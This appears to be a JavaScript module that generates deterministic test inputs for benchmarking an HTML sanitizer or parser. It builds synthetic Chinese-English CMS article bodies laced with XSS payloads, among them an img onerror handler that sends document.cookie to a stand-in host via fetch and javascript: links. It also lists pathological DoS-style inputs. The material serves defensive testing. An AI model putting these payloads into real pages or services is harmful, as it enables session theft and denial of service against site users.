// Deterministic input generators for the benchmark. Runs in the browser (bench.js) and in
// Node (for checking). Same seed → same string, byte for byte.

/** A small seeded PRNG (mulberry32): returns a function giving floats in [0, 1). */
export function rng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

// Common characters of Chinese news copy (a few hundred, as in the seed article).
const HAN =
  '的一是在不了有和人这中大为上个国我以要他时来用们生到作地于出就分对成会可主发年动同工也能下过子说产种面而方后多定行学法所民得经十三之进着等部度家电力里如水化高自二理起小物现实加量都两体制机当使点从业本去把性好应开它合还因由其些然前外天政四日那社义事平形相全表间样与关各重新线内数正心反你明看原又么利比或但质气第向道命此变条只没结解问意建月公无系军很情者最立代想已通并提直题党程展五果料象员革位入常文总次品式活设及管特件长求老头基资边流路级少图山统接知较将组见计别她手角期根论运农指几九区强放决西被干做必战先回则任取据处理世车点城市领导部门发展改革科技创新推进会议上海北京深圳广州记者报道表示提出指出要求工作建设服务经济社会文化教育卫生健康交通环境安全'; // eslint-disable-line max-len
const WORDS = [
  'Shanghai', 'innovation', 'AI', 'chip', 'biotech', 'policy', 'market', 'report', 'data',
  'the', 'of', 'and', 'to', 'in', 'a', 'is', 'for', 'on', 'with', 'news', 'city', 'science',
  'technology', 'center', 'research', 'growth', 'GDP', '2025', 'Q3', 'NASDAQ', 'WeChat',
];
const PUNCT = ',,,,、。;:“”';

function pick(r, list) {
  return list[Math.floor(r() * list.length)];
}

function hanRun(r, n) {
  let s = '';
  for (let i = 0; i < n; i++) {
    s += HAN[Math.floor(r() * HAN.length)];
    if (r() < 0.08) s += PUNCT[Math.floor(r() * PUNCT.length)];
  }
  return s;
}

/** A sentence of mixed Chinese and English text (no markup). */
function sentence(r) {
  let s = hanRun(r, 8 + Math.floor(r() * 30));
  if (r() < 0.5) {
    s += ' ';
    const n = 1 + Math.floor(r() * 5);
    for (let i = 0; i < n; i++) s += (i ? ' ' : '') + pick(r, WORDS);
    s += ' ';
    s += hanRun(r, 4 + Math.floor(r() * 12));
  }
  return s + '。';
}

let counter = 0;
function url(r, kind) {
  counter++;
  const id = Math.floor(r() * 1e9).toString(36);
  if (kind === 'img') return `https://img.example.test/2025/07/${id}.jpg`;
  return `https://news.example.test/detail/${id}?from=${counter % 7}&amp;utm_source=cms`;
}

/** Inline content of a paragraph: text with links, emphasis and some dirt. */
function inline(r) {
  let s = '';
  const n = 2 + Math.floor(r() * 5);
  for (let i = 0; i < n; i++) {
    s += sentence(r);
    const x = r();
    if (x < 0.18) s += `<a href="${url(r)}" target="_blank">${hanRun(r, 4 + Math.floor(r() * 8))}</a>`;
    else if (x < 0.26) s += `<strong>${hanRun(r, 3 + Math.floor(r() * 6))}</strong>`;
    else if (x < 0.31) s += `<em>${pick(r, WORDS)} ${pick(r, WORDS)}</em>`;
    else if (x < 0.35) s += `<span style="color:#c00;font-weight:bold">${hanRun(r, 5)}</span>`;
    else if (x < 0.37) s += `<a href="javascript:alert(document.cookie)">${hanRun(r, 4)}</a>`;
    else if (x < 0.39) s += `<a href="${url(r)}" onclick="track(this);return false">${hanRun(r, 4)}</a>`;
    else if (x < 0.40) s += '<br>';
    else if (x < 0.41) s += `<font color="red" face="SimSun">${hanRun(r, 6)}</font>`;
  }
  return s;
}

function block(r) {
  const x = r();
  if (x < 0.50) {
    const attrs = r() < 0.1 ? ' style="text-indent:2em;line-height:1.8"' : r() < 0.05 ? ' class="MsoNormal" onmouseover="x()"' : '';
    return `<p${attrs}>${inline(r)}</p>\n`;
  }
  if (x < 0.58) {
    const h = r() < 0.6 ? 'h2' : 'h3';
    return `<${h}>${hanRun(r, 6 + Math.floor(r() * 14))}</${h}>\n`;
  }
  if (x < 0.68) {
    const w = 640 + Math.floor(r() * 4) * 160;
    const h = Math.floor(w * (0.5 + r() * 0.3));
    const dirt = r() < 0.15 ? ' onerror="alert(1)"' : r() < 0.1 ? ' style="border:1px solid #ccc"' : '';
    return `<figure><img src="${url(r, 'img')}" width="${w}" height="${h}" alt="${hanRun(r, 6)}"${dirt}><figcaption>${sentence(r)}</figcaption></figure>\n`;
  }
  if (x < 0.76) {
    const tag = r() < 0.6 ? 'ul' : 'ol';
    let s = `<${tag}>`;
    const n = 2 + Math.floor(r() * 5);
    for (let i = 0; i < n; i++) s += `<li>${sentence(r)}</li>`;
    return s + `</${tag}>\n`;
  }
  if (x < 0.83) return `<blockquote><p>${inline(r)}</p></blockquote>\n`;
  if (x < 0.88) {
    const cols = 3 + Math.floor(r() * 3);
    const rows = 3 + Math.floor(r() * 6);
    let s = '<table border="1" cellpadding="4"><thead><tr>';
    for (let c = 0; c < cols; c++) s += `<th>${hanRun(r, 4)}</th>`;
    s += '</tr></thead><tbody>';
    for (let i = 0; i < rows; i++) {
      s += '<tr>';
      for (let c = 0; c < cols; c++) s += `<td>${r() < 0.5 ? hanRun(r, 3 + Math.floor(r() * 6)) : (r() * 1e4).toFixed(2)}</td>`;
      s += '</tr>';
    }
    return s + '</tbody></table>\n';
  }
  // Dirt blocks.
  const d = r();
  if (d < 0.3) return `<script>window.__cms_ad_${Math.floor(r() * 1e6)} = {slot: "body", t: Date.now()};</script>\n`;
  if (d < 0.5) return `<iframe src="https://player.example.test/embed/${Math.floor(r() * 1e6)}" width="640" height="360" frameborder="0" allowfullscreen></iframe>\n`;
  if (d < 0.65) return `<div class="editor-note" style="background:#f5f5f5;padding:8px" onclick="toggle()"><p>${inline(r)}</p></div>\n`;
  if (d < 0.75) return `<!-- cms:block id=${Math.floor(r() * 1e6)} -->\n`;
  if (d < 0.85) return `<style>.ad{display:none}</style><p class="ad">${sentence(r)}</p>\n`;
  if (d < 0.93) return `<p><img src="x" onerror="fetch('//evil.example.test/?c='+document.cookie)"><a href=" JaVaScRiPt:void(0)">${hanRun(r, 5)}</a></p>\n`;
  return `<svg width="10" height="10" onload="alert(1)"><circle r="5"/></svg><p>${inline(r)}</p>\n`;
}

const encoder = new TextEncoder();

/** UTF-8 length of a string. */
export function utf8Length(s) {
  return encoder.encode(s).length;
}

/**
 * A realistic CMS article body of about `bytes` bytes (UTF-8): paragraphs of Chinese and
 * English text, links, images with width/height, headings, lists, blockquotes, tables, and
 * dirt (inline on* handlers, <script>, <iframe>, style attributes, javascript: links).
 */
export function cmsBody(bytes, seed = 1) {
  const r = rng(seed);
  counter = 0;
  const parts = [];
  let size = 0;
  while (size < bytes) {
    const b = block(r);
    parts.push(b);
    // Chinese characters are 3 bytes in UTF-8; everything else here is ASCII.
    size += b.length + 2 * countHan(b);
  }
  return parts.join('');
}

function countHan(s) {
  let n = 0;
  for (let i = 0; i < s.length; i++) if (s.charCodeAt(i) > 0x7f) n++;
  return n;
}

/** `depth` nested <div>s around a short text (with a <p> and a link at the bottom). */
export function nested(depth) {
  return '<div>'.repeat(depth) + '<p>深 <a href="https://news.example.test/">deep</a></p>' + '</div>'.repeat(depth);
}

/**
 * The hostile bodies of issue 10: shapes that cost time far beyond their size (nesting the
 * nesting pre-pass does not see, comments, attributes, table spans, wide flat bodies, foreign
 * content). `key` names the case in the results, `label` is its row in the table, `make()`
 * builds the body (deterministic).
 */
export const HOSTILE = [
  { key: 'x-div-20k', label: '`<x><div></x>` × 20 000', make: () => '<x><div></x>'.repeat(20000) },
  { key: 'b-div-10k', label: '`<b><div></b>` × 10 000', make: () => '<b><div></b>'.repeat(10000) },
  { key: 'i-ul-10k', label: '`<i><ul></i>` × 10 000', make: () => '<i><ul></i>'.repeat(10000) },
  { key: 'comments-20k', label: '`<!---->` × 20 000', make: () => '<!---->'.repeat(20000) },
  { key: 'comments-40k', label: '`<!---->` × 40 000', make: () => '<!---->'.repeat(40000) },
  {
    key: 'attrs-100k',
    label: '`<p>` with 100 000 distinct attributes',
    make: () => {
      const parts = ['<p'];
      for (let i = 0; i < 100000; i++) parts.push(` a${i}`);
      parts.push('>x</p>');
      return parts.join('');
    },
  },
  { key: 'table-span-100', label: '`<table>` + 100 rows `<td colspan=1000 rowspan=65534>`', make: () => spanTable(100) },
  { key: 'table-span-3000', label: '`<table>` + 3 000 rows `<td colspan=1000 rowspan=65534>`', make: () => spanTable(3000) },
  { key: 'a-br-70k', label: '`a<br>` × 70 000', make: () => 'a<br>'.repeat(70000) },
  { key: 'unknown-br-140k', label: '`<x>` wrapping 140 000 `<br>`', make: () => `<x>${'<br>'.repeat(140000)}</x>` },
  { key: 'h1-br-140k', label: '`<h1>` wrapping 140 000 `<br>`', make: () => `<h1>${'<br>'.repeat(140000)}</h1>` },
  { key: 'b-x-300k', label: '`<b>x</b>` × 300 000', make: () => '<b>x</b>'.repeat(300000) },
  { key: 'svg-style-div-20k', label: '`<svg><style>` + `<div>` × 20 000', make: () => '<svg><style>' + '<div>'.repeat(20000) },
  { key: 'svg-plaintext-div-20k', label: '`<svg><plaintext>` + `<div>` × 20 000', make: () => '<svg><plaintext>' + '<div>'.repeat(20000) },
];

function spanTable(rows) {
  return `<table>${'<tr><td colspan=1000 rowspan=65534>x</td></tr>'.repeat(rows)}</table>`;
}
